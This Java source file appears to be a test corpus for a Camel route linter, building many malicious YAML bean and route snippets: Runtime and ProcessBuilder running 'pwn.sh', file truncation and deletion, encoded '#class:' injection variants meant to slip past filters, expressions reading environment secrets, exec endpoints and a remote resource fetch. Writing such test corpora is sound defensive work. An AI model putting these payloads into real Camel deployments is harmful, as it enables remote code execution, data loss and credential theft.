package org.pgsteward.camel.lint;

import java.util.ArrayList;
import java.util.List;

/**
 * Route files that would run code when they are checked or when they run. A mark ends the line that the check has to
 * name.
 */
final class Attacks {
    private static final String HERE = "# here";

    private final List<Attack> attacks = new ArrayList<>();

    record Attack(String name, String content, int line) {
        @Override
        public String toString() {
            return name;
        }
    }

    static List<Attack> all() {
        Attacks all = new Attacks();
        all.beans();
        all.values();
        all.encodings();
        all.references();
        all.expressions();
        all.placeholders();
        all.languages();
        all.addresses();
        all.calls();
        return all.attacks;
    }

    private void beans() {
        bean("a constructor that truncates a file", """
                  type: java.io.FileOutputStream  # here
                  constructors: {0: "/tmp/precious"}
                """);
        bean("a runtime by a factory method", """
                  type: java.lang.Runtime
                  factoryMethod: getRuntime  # here
                """);
        bean("a script in a bean", """
                  type: org.pgsteward.alert.NotificationPolicy
                  script: "${bean:rt?method=exec('pwn.sh')}"  # here
                """);
        bean("a script without a type", """
                  scriptLanguage: simple  # here
                  script: "x"
                """);
        bean("a factory bean", """
                  type: java.lang.Process
                  factoryBean: rt  # here
                  factoryMethod: "exec('pwn.sh')"
                """);
        bean("an init method", """
                  type: java.lang.ProcessBuilder  # here
                  initMethod: start
                  constructors: {0: pwn.sh}
                """);
        bean("an init method of a pgsteward type", """
                  type: org.pgsteward.alert.NotificationPolicy
                  initMethod: toString  # here
                """);
        bean("a destroy method", """
                  type: org.pgsteward.alert.NotificationPolicy
                  destroyMethod: toString  # here
                """);
        bean("a builder class", """
                  type: org.pgsteward.alert.NotificationPolicy
                  builderClass: java.lang.Runtime  # here
                """);
        bean("a builder method", """
                  type: org.pgsteward.alert.NotificationPolicy
                  builderMethod: getRuntime  # here
                """);
        bean("a pgsteward class that no shipped file creates", """
                  type: org.pgsteward.postgres.Server  # here
                """);
        bean("a type by a prefix", """
                  type: "#class:org.pgsteward.alert.NotificationPolicy"  # here
                """);
        bean("a type by a placeholder", """
                  type: "{{pgsteward.evil:java.lang.ProcessBuilder}}"  # here
                """);
        bean("no type", """
                  properties: {a: b}
                """, 2);
        bean("a class loader", """
                  type: java.net.URLClassLoader  # here
                """);
        bean("a script engine", """
                  type: javax.script.ScriptEngineManager  # here
                """);
        bean("an initial context", """
                  type: javax.naming.InitialContext  # here
                """);
        bean("an XML decoder", """
                  type: java.beans.XMLDecoder  # here
                """);
        bean("a data source with a socket factory", """
                  type: org.postgresql.ds.PGSimpleDataSource  # here
                  properties: {socketFactory: org.springframework.context.support.FileSystemXmlApplicationContext}
                """);
        bean("a component that runs programs", """
                  type: org.apache.camel.component.exec.ExecComponent  # here
                """);
        bean("a Camel language", """
                  type: org.apache.camel.language.bean.BeanLanguage  # here
                """);
    }

    private void values() {
        for (String value : List.of(
                "#class:java.lang.ProcessBuilder('pwn.sh')",
                "#class:java.lang.Runtime#getRuntime()",
                "#type:java.lang.Runtime",
                "#valueAs(java.lang.Class):java.lang.Runtime",
                "#property:x",
                "#autowired",
                "#bean:rt?method=exec",
                "#bean:rt.exec('pwn.sh')",
                "{{pgsteward.evil:#class:java.lang.Runtime}}",
                "  #class:java.lang.Runtime")) {
            bean("a property " + value, """
                      type: org.pgsteward.backup.RetentionPolicies
                      properties:
                        warn: "%s"  # here
                    """.formatted(value));
            bean("a constructor's value " + value, """
                      type: org.pgsteward.backup.RetentionPolicies
                      constructors:
                        0: "%s"  # here
                    """.formatted(value));
        }
        bean("a property within a property", """
                  type: org.pgsteward.backup.RetentionPolicies
                  properties:
                    nested:
                      deeper: "#class:java.lang.Runtime"  # here
                """);
        bean("the class of a bean", """
                  type: org.pgsteward.backup.RetentionPolicies
                  properties:
                    class.classLoader.defaultAssertionStatus: "true"  # here
                """);
        step("an option that names a class", "to: \"file:x?processStrategy=#class:evil.Strategy\"");
        step(
                "an option in a list that names a class",
                "to: {uri: file:x, parameters: {processStrategy: \"#class:evil.Strategy\"}}");
        step(
                "an option that selects a type",
                "to: {uri: file:x, parameters: {processStrategy: \"#type:java.lang.Object\"}}");
        step("a class behind RAW", "to: \"file:x?processStrategy=RAW(#class:evil.Strategy)\"");
        step(
                "a strategy of a class",
                "aggregate: {aggregationStrategy: \"#class:evil.Strategy\", constant: x, completionSize: 1, steps: []}");
        step("a processor of a class", "process: {ref: \"#class:evil.Processor\"}");
        step(
                "a repository of a class",
                "idempotentConsumer: {idempotentRepository: \"#class:evil.R\", constant: x, steps: []}");
    }

    /** Values that Camel decodes before it reads them. */
    private void encodings() {
        String made = "class:java.io.FileOutputStream('/tmp/precious')";
        for (String value : List.of(
                "%23" + made,
                "%2523" + made,
                "%252523" + made,
                "%23%63lass:java.io.FileOutputStream('/tmp/precious')",
                "%23class%3Ajava.io.FileOutputStream('/tmp/precious')",
                "+%23" + made,
                "%20%23" + made,
                "%00%23" + made,
                "%09#" + made,
                "RAW(%23" + made + ")",
                "RAW{#" + made + "}",
                "%52AW(#" + made + ")",
                "{{pgsteward.evil:%23}}" + made,
                "{{pgsteward.evil:%23class:java.io.FileOutputStream('/tmp/precious')}}",
                "%2{{pgsteward.evil:3}}" + made,
                "%7B%7Bpgsteward.evil:%23class%7D%7D:java.io.FileOutputStream('/tmp/precious')",
                "%257B%257Bpgsteward.evil:%23class%257D%257D:java.io.FileOutputStream",
                "%23cl?nested=trueass:java.io.FileOutputStream{{pgsteward.evil:}}",
                "{{pgsteward.{{pgsteward.x:evil}}:%23class:java.lang.Runtime}}",
                "%7B%7Benv:PATH%7D%7D",
                "%24%7Bbean:type:java.lang.System%3Fmethod=getenv%7D",
                "%24{new:java.io.FileOutputStream('/tmp/precious')}",
                "#bean:x,%23" + made,
                "%2525252525252525252525252523" + made)) {
            step("an option in an address " + value, "to: \"log:x?exchangeFormatter=" + value + "\"");
            step("a later option " + value, "to: \"log:x?level=INFO&exchangeFormatter=" + value + "\"");
            step(
                    "an option in a list " + value,
                    "to: {uri: log:x, parameters: {exchangeFormatter: \"" + value + "\"}}");
            step("a dynamic address " + value, "toD: \"log:${body}?exchangeFormatter=" + value + "\"");
        }
        step("YAML escapes of a number sign", "to: \"log:x?exchangeFormatter=\\x23class:java.lang.Runtime\"");
        step("YAML escapes of a percent sign", "to: \"log:x?exchangeFormatter=\\u002523class:java.lang.Runtime\"");
        step(
                "an encoded recipient",
                "recipientList: {constant: \"log:x?exchangeFormatter=%23class:java.lang.Runtime\"}");
        step(
                "an encoded recipient in a header",
                "setHeader: {name: x, constant: \"log:x?y=%23class:java.lang.Runtime\"}");
        step("an encoded address to enrich", "enrich: {simple: \"log:${body}?y=%23valueAs(java.lang.Class):x\"}");
        step("an encoded wire tap", "wireTap: {uri: \"log:x?y=%23type:java.lang.Object\"}");
        step("an encoded poll", "poll: {uri: \"file:x?y=%23class:java.lang.Runtime\"}");
        step(
                "an encoded value of a step",
                "aggregate: {aggregationStrategy: \"%23class:evil.S\", constant: x, steps: []}");
        bean("an argument that closes its quotes", """
                  type: org.pgsteward.backup.RetentionPolicies
                  constructors:
                    0: 'a", "#class:java.io.FileOutputStream'  # here
                """);
        bean("an encoded argument", """
                  type: org.pgsteward.backup.RetentionPolicies
                  constructors:
                    0: "%23class:java.io.FileOutputStream('/tmp/precious')"  # here
                """);
    }

    /**
     * All values that Camel interprets after a number sign and that are no bean names, including possible future ones.
     */
    private void references() {
        for (String value : List.of(
                "#autowired",
                "#property:env:PATH",
                "#property:pgsteward.x",
                "#valueAs(int):1",
                "#newInCamel5:x",
                "#bean:a/b",
                "#bean:",
                "##x",
                "# class:x",
                "#${body}",
                "#bean:${header.x}")) {
            step("the reference in an address " + value, "to: \"sql:SELECT 1?dataSource=" + value + "\"");
            step("the reference in a list " + value, "to: {uri: sql:x, parameters: {dataSource: \"" + value + "\"}}");
            step("the reference of a step " + value, "process: {ref: \"" + value + "\"}");
            step(
                    "the reference of a repository " + value,
                    "idempotentConsumer: {idempotentRepository: \"" + value + "\", constant: x, steps: []}");
        }
    }

    private void expressions() {
        for (String expression : List.of(
                "${bean:type:java.lang.Runtime?method=getRuntime}",
                "${bean:type:java.lang.System?method=getenv}",
                "a text before ${bean:type:java.lang.System?method=getenv} and one behind",
                "$simple{bean:type:java.lang.System?method=getenv}",
                "${ bean:type:java.lang.System?method=getenv}",
                "${type:java.lang.Runtime.getRuntime}",
                "${new:java.io.FileOutputStream('/tmp/precious')}",
                "${ref:management.connection}",
                "${ref:rt.exec('pwn.sh')}",
                "${camelContext.registry.lookupByName('rt')}",
                "${camelContext}",
                "${exchange.context.injector.newInstance('x')}",
                "${exchange.getContext()}",
                "${exchange?.context}",
                "${body.class.forName('java.lang.Runtime')}",
                "${body.getClass().getClassLoader()}",
                "${body.getClass}",
                "${header.x.class.classLoader}",
                "${headers.x.getClass.forName('a')}",
                "${body['class']}",
                "${variable.x.getClassLoader}",
                "${message.exchange.context}",
                "${in.exchange.unitOfWork}",
                "${bodyAs(java.lang.String).class}",
                "${env:PATH}",
                "${env.PATH}",
                "${sysenv.HOME}",
                "${sysenv:HOME}",
                "${properties:bean:rt.exec}",
                "${properties:env:PATH}",
                "${iif(${body} == null, ${bean:type:java.lang.System?method=getenv}, 1)}",
                "${body.get(${bean:type:java.lang.System?method=getenv})}",
                "${bean:management.connection}",
                "${bean:docker?method=getClient}",
                "${function:evil}",
                "resource:classpath:evil.txt",
                "resource:http://evil.example.org/x",
                "{{pgsteward.evil:resource:file:/tmp/evil}}")) {
            step("the expression " + expression, "setBody: {simple: \"%s\"}".formatted(expression));
        }
        step("an expression in a log", "log: \"${bean:type:java.lang.System?method=getenv}\"");
        step("an expression in a log's message", "log: {message: \"${env:PATH}\"}");
        step("an expression in an address", "toD: \"file:x?fileName=${bean:type:java.lang.System?method=getenv}\"");
        step(
                "an expression in an option",
                "to: {uri: file:x, parameters: {fileName: \"${bean:type:java.lang.System?method=getenv}\"}}");
        step("an expression in a header's name", "setHeader: {name: \"${env:PATH}\", constant: x}");
        step("an expression in a condition", "filter: {simple: \"${bean:type:a.B} != null\", steps: []}");
        step(
                "an expression in an argument",
                "bean: {ref: messages, method: \"mail(${bean:type:java.lang.System?method=getenv})\"}");
        step("an escaped expression", "setBody: {simple: \"\\u0024{env:PATH}\"}");
    }

    private void placeholders() {
        for (String text : List.of(
                "{{bean:rt.exec}}",
                "{{env:PGSTEWARD_POSTGRES_PASSWORD}}",
                "{{?env:X}}",
                "{{sys:user.home}}",
                "{{service:x}}",
                "{{pgsteward.{{pgsteward.x:y}}}}",
                "${{{pgsteward.evil:bean}}:type:java.lang.System?method=getenv}",
                "${be{{pgsteward.evil:an}}:type:java.lang.System?method=getenv}",
                "{{pgsteward.evil:$}}{env:PATH}")) {
            step("the placeholder " + text, "setBody: {simple: \"%s\"}".formatted(text));
        }
    }

    private void languages() {
        for (String language : List.of(
                "groovy",
                "java",
                "joor",
                "js",
                "mvel",
                "ognl",
                "python",
                "spel",
                "csimple",
                "wasm",
                "xquery",
                "datasonnet")) {
            step("an expression in " + language, "setBody: {%s: \"1\"}".formatted(language));
            step(
                    "a whole expression in " + language,
                    "filter: {expression: {%s: {expression: \"1\"}}, steps: []}".formatted(language));
        }
        step("a language by its name", "setBody: {language: {language: groovy, expression: \"1\"}}");
        step("a script", "script: {groovy: \"1\"}");
        step("a script in simple", "script: {simple: \"1\"}");
        step("a step within steps", "choice: {when: [{simple: \"true\", steps: [{script: {constant: x}}]}]}");
    }

    private void addresses() {
        for (String uri : List.of(
                "exec:sh?args=pwn.sh",
                "EXEC:sh",
                "bean:rt?method=exec",
                "class:java.lang.Runtime?method=getRuntime",
                "language:simple:x",
                "language:groovy:resource:file:evil",
                "controlbus:language:simple",
                "kamelet:evil",
                "velocity:evil.vm",
                "freemarker:evil.ftl",
                "mvel:evil.mvel",
                "xslt:evil.xsl",
                "wasm:evil",
                "{{pgsteward.evil:exec}}:sh",
                "ex{{pgsteward.evil:ec}}:sh")) {
            step("to " + uri, "to: \"%s\"".formatted(uri));
            step("dynamically to " + uri, "toD: {uri: \"%s\"}".formatted(uri));
        }
        step("to exec, as Kaoto writes it", "to: {uri: exec, parameters: {args: pwn.sh}}");
        step("to a bean, as Kaoto writes it", "to: {uri: bean, parameters: {beanName: rt}}");
        step("wire tap", "wireTap: {uri: \"exec:sh\"}");
        step("enrich", "enrich: {constant: \"exec:sh\"}");
        step("poll", "pollEnrich: {expression: {constant: {expression: \"language:simple:x\"}}}");
        step("a recipient", "recipientList: {constant: \"exec:sh\"}");
        step("a recipient among others", "recipientList: {simple: \"log:a,exec:sh\"}");
        step("a routing slip", "routingSlip: {expression: {simple: {expression: \"direct:a,bean:rt\"}}}");
        step("a dynamic router", "dynamicRouter: {constant: \"class:java.lang.Runtime\"}");
        attack("a route from exec", """
                - route:
                    id: evil
                    from:
                      uri: exec:sh  # here
                      steps: [{log: x}]
                """);
    }

    private void calls() {
        step("a call of a class", "bean: {beanType: java.lang.Runtime, method: getRuntime}");
        step("a call of a class, spelt with a hyphen", "bean: {bean-type: java.lang.Runtime, method: getRuntime}");
        step("an expression that calls a class", "setBody: {method: {beanType: java.lang.System, method: getenv}}");
        step(
                "another method of the helper",
                "setBody: {method: {beanType: org.apache.camel.support.ResourceHelper, method: fromBytes}}");
        step("a call of the data source", "bean: {ref: management, method: getConnection}");
        step("a call of getClass on a bean", "bean: {ref: messages, method: getClass}");
        step("a call of a property of a bean", "bean: {ref: \"messages.class\", method: x}");
        step("a call of the engine's client", "setBody: {method: {ref: docker, method: getClient}}");
        step("a call of a class by reference", "bean: {ref: \"#class:evil.Bean\"}");
        attack("a call of a method of a File bean", """
                - beans:
                    - name: precious
                      type: java.io.File
                      constructors: {0: "/tmp/precious"}
                - route:
                    id: evil
                    from:
                      uri: timer:evil
                      steps:
                        - bean: {ref: precious, method: delete}  # here
                """);
        attack("an expression that calls a method of a File bean", """
                - beans:
                    - name: precious
                      type: java.io.File
                      constructors: {0: "/tmp/precious"}
                - route:
                    id: evil
                    from:
                      uri: timer:evil
                      steps:
                        - setBody: {simple: "${bean:precious.delete}"}  # here
                """);
    }

    private void bean(String name, String rest) {
        attack(name, "- beans:\n    - name: rt\n" + rest.indent(4));
    }

    private void bean(String name, String rest, int line) {
        attacks.add(new Attack(name, "- beans:\n    - name: rt\n" + rest.indent(4), line));
    }

    private void step(String name, String step) {
        attack(name, """
                - route:
                    id: evil
                    from:
                      uri: timer:evil
                      steps:
                        - %s  # here
                """.formatted(step));
    }

    private void attack(String name, String content) {
        List<String> lines = content.lines().toList();
        for (int i = 0; i < lines.size(); i++) {
            if (lines.get(i).endsWith(HERE)) {
                attacks.add(new Attack(name, content, i + 1));
                return;
            }
        }
        throw new IllegalArgumentException("no mark in " + name);
    }
}
